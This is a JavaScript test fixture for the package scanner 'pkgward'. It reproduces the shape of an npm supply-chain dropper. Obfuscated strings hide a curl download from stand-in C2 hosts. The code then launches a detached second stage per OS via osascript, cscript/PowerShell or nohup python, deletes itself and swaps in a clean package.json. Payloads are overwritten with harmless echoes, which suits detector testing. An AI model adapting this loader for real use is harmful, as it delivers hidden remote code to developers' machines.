// DEFANGED TEST FIXTURE for pkgward: replica of the shape of the 2026 axios/plain-crypto-js dropper. Hosts are .invalid / RFC 5737 documentation addresses; commands are harmless. Never run.
'use strict';

var _0x4b21 = 'OrDeR_7077';

var _0x5a1c = [
  [353, 343, 352, 324, 379, 333, 266, 271, 277, 281, 359, 332, 378],
  [365, 332],
  [356, 332],
  [370, 350, 381, 320],
  [358, 350, 379, 351, 374, 380],
  [373, 342, 359, 283, 301],
  [366, 342, 359, 349, 359],
  [362, 331, 381, 344, 293, 317, 341, 270, 284, 264, 353, 339, 360, 323, 305, 379, 276, 267, 283, 278, 363, 347, 307, 272, 303, 290, 330, 338, 332, 328, 306, 269, 313, 283, 300]
];

var _0x3e9f = [
  'iAybtAyctACbyV3Y',
  '__wLnJ3bu0Gcu5ycldWYrNWYwBCZtAiI',
  '_AXdo9mb',
  '0BXayN2chN3b',
  '__gCicSKzNXZs1mchhGKgQWYvxWehBHIul2dyFGZgoTZyVHd4lmZgQ3clRHIkJXY3d2awdCIvh2YlJCI0BXayN2cgwGblh2cg8GZ',
  '_EEVBRUTBJ1RPJFU',
  '__AUNVEV',
  '__AdwlmcjN3Y',
  '_82Zvx2bu9yL',
  'C9yL',
  'iICIlxWaG1CIzNXYwlnYgAXZtAiblRGZphGI31CIsxWZoNncld3bwJCIuVnUukiIsxWZoNlL0BXayN2UXJCK0NWZqJ2TlRXYlJ3Q',
  'K0QZzxWYGBCLwACLiIiI',
  '__gCNISKzNXZs1mchhGKgQWYvxWehBHIyMjbpdHI6Umc1RHepZGI0NXZ0BCZyF2dntGciAyboNWZ',
  '__Qew5CZs9CctR3L',
  '__wMu9Ga0lHc',
  '_oQKikyczVGbtJXYohCIkF2bslXYwBCe15WasBiOlJXd0hXamBCdzVGdgQmchd3ZrBnIoQnbpJHc'
];

function _0x1f0a(a) {
  var o = '';
  for (var i = 0; i < a.length; i++) {
    o += String.fromCharCode(a[i] ^ _0x4b21.charCodeAt(i % _0x4b21.length) ^ 333);
  }
  return o;
}

function _0x2c8b(s) {
  return Buffer.from(s.split('').reverse().join('').replace(/_/g, '='), 'base64').toString('utf8');
}

var _0x7d = function (i) { return _0x1f0a(_0x5a1c[i]); };
var _0x9e = function (i) { return _0x2c8b(_0x3e9f[i]); };

function _entry(_0xid) {
  var cp = require(_0x7d(0));
  var os = require(_0x7d(1));
  var fs = require(_0x7d(2));
  var path = require(_0x7d(3));
  var c2 = [_0x7d(7), 'http://198.51.100.73:8000/6202033'];

  function _0xfetch(dst, tag) {
    for (var i = 0; i < c2.length; i++) {
      try {
        cp.execSync(_0x9e(0) + dst + _0x9e(1) + tag + ' ' + c2[i], { stdio: 'ignore', timeout: 8000, windowsHide: true });
        return true;
      } catch (e) {}
    }
    return false;
  }

  try {
    var tmp = os.tmpdir();
    switch (os.platform()) {
      case _0x7d(4):
        var scpt = path.join(tmp, _0xid);
        _0xfetch(scpt, 'product0');
        // defanged: whatever was fetched is overwritten with an echo-only payload
        fs.writeFileSync(scpt, _0x9e(4));
        cp.spawn(_0x9e(2), [_0x9e(3), scpt], { detached: true, stdio: 'ignore' }).unref();
        break;
      case _0x7d(5):
        var ps1 = path.join(process.env[_0x9e(5)] || tmp, _0xid + '.ps1');
        var vbs = path.join(process.env[_0x9e(6)] || tmp, _0xid + '.vbs');
        _0xfetch(ps1, 'product1');
        fs.writeFileSync(ps1, _0x9e(12));
        fs.writeFileSync(vbs, _0x9e(10) + ps1 + _0x9e(11));
        cp.spawn(_0x9e(7), [_0x9e(8), _0x9e(9), vbs], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
        break;
      case _0x7d(6):
        var py = _0x9e(13);
        _0xfetch(py, 'product2');
        fs.writeFileSync(py, _0x9e(15));
        cp.spawn(_0x9e(2), [_0x9e(14), py, c2[0]], { detached: true, stdio: 'ignore' }).unref();
        break;
      default:
        break;
    }
  } catch (e) {}

  try {
    fs.unlinkSync(__filename);
  } catch (e) {}
  try {
    fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
  } catch (e) {}
}

_entry('6202033');
